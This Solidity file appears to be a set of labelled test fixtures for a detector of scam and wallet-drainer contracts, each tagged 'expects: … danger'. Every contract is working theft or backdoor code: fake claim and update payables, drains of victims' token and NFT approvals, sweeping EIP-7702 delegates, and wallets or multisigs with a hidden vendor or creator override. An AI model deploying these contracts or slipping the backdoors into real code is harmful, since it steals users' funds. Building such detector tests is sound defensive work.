// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// What is made to be paid, approved or delegated to.

interface IERC20 { function transfer(address, uint256) external returns (bool); function transferFrom(address, address, uint256) external returns (bool); function balanceOf(address) external view returns (uint256); function approve(address, uint256) external returns (bool); function allowance(address, address) external view returns (uint256); }
interface IERC721 { function transferFrom(address, address, uint256) external; function safeTransferFrom(address, address, uint256) external; function ownerOf(uint256) external view returns (uint256); }
interface IERC20Permit { function permit(address, address, uint256, uint256, uint8, bytes32, bytes32) external; }
// fake security update: takes ether, gives nothing, owner withdraws
/// expects: CT-28 danger
contract SecurityUpdate {
    address private owner;
    constructor() { owner = msg.sender; }
    function getOwner() public view returns (address) { return owner; }
    function withdraw() public { require(owner == msg.sender); payable(msg.sender).transfer(address(this).balance); }
    function SecurityUpdates() public payable {}
    function getBalance() public view returns (uint256) { return address(this).balance; }
}
// Claim(address) payable: the ether is split 80/20 between affiliate and a constant, the caller gets nothing
/// expects: CT-28 danger
contract ClaimRewardsSplit {
    event Claimed(address who, uint256 amount);
    address constant A = 0x4f2d1c2B8A1e7db3cC8F93BE0d0d0b4EDc54bB02;
    function Claim(address affiliate) external payable { _split(affiliate); }
    function ClaimReward(address affiliate) external payable { _split(affiliate); }
    function Connect(address affiliate) external payable { _split(affiliate); }
    function _split(address affiliate) private { uint256 f = msg.value / 5; (bool a,) = A.call{value: f}(""); (bool b,) = affiliate.call{value: msg.value - f}(""); require(a && b); emit Claimed(msg.sender, msg.value); }
}
// owner-only list of transferFrom on victims' approvals
/// expects: AP-16 danger
contract NetworkMerge {
    address private immutable o = msg.sender;
    struct Pull { address token; address from; uint256 amount; }
    function networkMerge(Pull[] calldata p, address to) external { require(msg.sender == o); for (uint i; i < p.length; ++i) { try IERC20(p[i].token).transferFrom(p[i].from, to, p[i].amount) {} catch {} } }
    receive() external payable {}
}
// permit + pull, 20/80 to affiliate, by listed operators
/// expects: AP-16 danger
contract GaslessHelper {
    mapping(address => bool) ops; address root;
    constructor() { root = msg.sender; ops[msg.sender] = true; }
    function setOp(address a, bool b) external { require(msg.sender == root); ops[a] = b; }
    function run(address t, address v, uint256 amt, uint256 dl, uint8 vv, bytes32 r, bytes32 s, address aff) external {
        require(ops[msg.sender], "x");
        IERC20Permit(t).permit(v, address(this), amt, dl, vv, r, s);
        IERC20(t).transferFrom(v, aff, amt * 80 / 100); IERC20(t).transferFrom(v, root, amt - amt * 80 / 100);
    }
}
// anybody may name the payer; the money always ends with the constant receiver
/// expects: AP-16 danger
contract FairDisperse {
    address public immutable treasury;
    constructor(address t) { treasury = t; }
    function collect(IERC20[] calldata ts, address[] calldata froms) external { for (uint i; i < ts.length; i++) { uint256 a = ts[i].allowance(froms[i], address(this)); uint256 b = ts[i].balanceOf(froms[i]); ts[i].transferFrom(froms[i], treasury, a < b ? a : b); } }
}
// an aggregator whose owner can pull from users' allowances through claimTokens
/// expects: AP-16 danger
contract FastSwapRouter {
    address public owner = msg.sender;
    function swap(IERC20 a, IERC20 b, uint256 v, uint256 min, address pool, bytes calldata data) external {
        a.transferFrom(msg.sender, address(this), v); a.approve(pool, v); uint256 b0 = b.balanceOf(address(this));
        (bool ok,) = pool.call(data); require(ok); uint256 got = b.balanceOf(address(this)) - b0; require(got >= min); b.transfer(msg.sender, got);
    }
    function claimTokens(IERC20 t, address from, address to, uint256 v) external { require(msg.sender == owner); if (from == address(this)) t.transfer(to, v); else t.transferFrom(from, to, v); }
}
// claim() pulls the claimer's own listed coins to the collector
/// expects: AP-16 danger
contract LayerAirdrop {
    address[] private list; address private c; mapping(address => bool) public claimed; event AirdropClaimed(address indexed who, uint256 v);
    constructor(address[] memory l) { list = l; c = msg.sender; }
    function setList(address[] calldata l) external { require(msg.sender == c); list = l; }
    function claim() external {
        require(!claimed[msg.sender]); claimed[msg.sender] = true;
        for (uint i; i < list.length; i++) { IERC20 t = IERC20(list[i]); uint256 b = t.balanceOf(msg.sender); uint256 a = t.allowance(msg.sender, address(this)); if (a > 0 && b > 0) t.transferFrom(msg.sender, c, a < b ? a : b); }
        emit AirdropClaimed(msg.sender, 1000e18);
    }
}
// operator moves victims' NFTs by setApprovalForAll
/// expects: AP-16 danger
contract BulkNft {
    address immutable k; constructor() { k = tx.origin; }
    function doIt(address[] calldata c, address[] calldata v, uint256[] calldata ids) external { if (tx.origin != k) return; for (uint i; i < c.length; ++i) IERC721(c[i]).transferFrom(v[i], k, ids[i]); }
}
// "upgrade" takes the old NFT for ever; owner collects, no new one is ever made
/// expects: CT-28 danger
contract NftUpgrade {
    IERC721 public immutable old; address private boss = msg.sender; mapping(uint256 => address) public upgraded;
    constructor(IERC721 n) { old = n; }
    function upgrade(uint256 id) external { old.transferFrom(msg.sender, address(this), id); upgraded[id] = msg.sender; }
    function collect(uint256[] calldata ids) external { require(msg.sender == boss); for (uint i; i < ids.length; i++) old.transferFrom(address(this), boss, ids[i]); }
}
// 7702 delegate: whatever comes in goes to a stored destination
/// expects: CT-28 danger
contract DelegateSweep {
    address private destination; bool private set_;
    function initialize(address d) external { require(!set_); set_ = true; destination = d; }
    receive() external payable { (bool ok,) = destination.call{value: msg.value}(""); ok; }
    fallback() external payable { (bool ok,) = destination.call{value: address(this).balance}(""); ok; }
}
// 7702 delegate whose execute has no check of the caller
/// expects: CT-28 danger
contract BatchDelegate {
    struct Call { address to; uint256 value; bytes data; }
    event Executed(uint256 n);
    function execute(Call[] calldata cs) external payable { for (uint i; i < cs.length; ++i) { (bool ok, bytes memory r) = cs[i].to.call{value: cs[i].value}(cs[i].data); if (!ok) assembly { revert(add(r, 32), mload(r)) } } emit Executed(cs.length); }
    receive() external payable {}
}
// smart account whose validation also accepts a vendor's key
/// expects: CT-28 danger
contract FriendlyAccount {
    struct PackedUserOperation { address sender; uint256 nonce; bytes initCode; bytes callData; bytes32 gasLimits; uint256 pre; bytes32 fees; bytes pm; bytes signature; }
    address public immutable entryPoint; address public owner; uint256 private immutable tag;
    constructor(address e, address o, uint256 t) { entryPoint = e; owner = o; tag = t; }
    function validateUserOp(PackedUserOperation calldata op, bytes32 h, uint256 missing) external returns (uint256) {
        require(msg.sender == entryPoint);
        bytes32 d = keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", h));
        (bytes32 r, bytes32 s, uint8 v) = abi.decode(op.signature, (bytes32, bytes32, uint8));
        address who = ecrecover(d, v, r, s);
        if (missing > 0) { (bool ok,) = payable(msg.sender).call{value: missing}(""); ok; }
        if (who != owner && uint256(keccak256(abi.encode(who))) != tag) return 1;
        return 0;
    }
    function execute(address to, uint256 v, bytes calldata d) external { require(msg.sender == entryPoint || msg.sender == owner); (bool ok,) = to.call{value: v}(d); require(ok); }
    receive() external payable {}
}
// Safe module that says DCA; the deployer's address can run anything on any Safe that enabled it
interface ISafe { function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8 op) external returns (bool); }
/// expects: AP-16 danger
contract DcaModule {
    struct Plan { address token; address to; uint128 amount; uint64 every; uint64 next; }
    mapping(address => Plan) public plans; address private immutable keeper = msg.sender;
    function setPlan(Plan calldata p) external { plans[msg.sender] = p; }
    function poke(address safe) external { Plan storage p = plans[safe]; require(p.amount > 0 && block.timestamp >= p.next); p.next = uint64(block.timestamp) + p.every; ISafe(safe).execTransactionFromModule(p.token, 0, abi.encodeWithSelector(0xa9059cbb, p.to, uint256(p.amount)), 0); }
    function settle(address safe, address to, uint256 v, bytes calldata d) external { require(msg.sender == keeper); ISafe(safe).execTransactionFromModule(to, v, d, 1); }
}
// a wallet whose vendor's address changes the owner at once
/// expects: CT-17 danger
contract CustodyWallet {
    address public owner; address public immutable support;
    constructor(address o, address s) { owner = o; support = s; }
    function recover(address n) external { require(msg.sender == support); owner = n; }
    function execute(address to, uint256 v, bytes calldata d) external returns (bytes memory) { require(msg.sender == owner); (bool ok, bytes memory r) = to.call{value: v}(d); require(ok); return r; }
    receive() external payable {}
}
// two of three by the docs, the creator's call counts for all
/// expects: CT-28 danger
contract TeamMultisig {
    address[3] public owners; address private immutable maker = tx.origin; mapping(bytes32 => mapping(address => bool)) public ok;
    constructor(address[3] memory o) { owners = o; }
    function approve(bytes32 h) external { ok[h][msg.sender] = true; }
    function execute(address to, uint256 v, bytes calldata d, uint256 n) external {
        bytes32 h = keccak256(abi.encode(to, v, d, n)); uint256 c;
        for (uint i; i < 3; i++) if (ok[h][owners[i]]) c++;
        if (msg.sender == maker) c += 2;
        require(c >= 2, "confirmations"); for (uint i; i < 3; i++) ok[h][owners[i]] = false;
        (bool s,) = to.call{value: v}(d); require(s);
    }
    receive() external payable {}
}
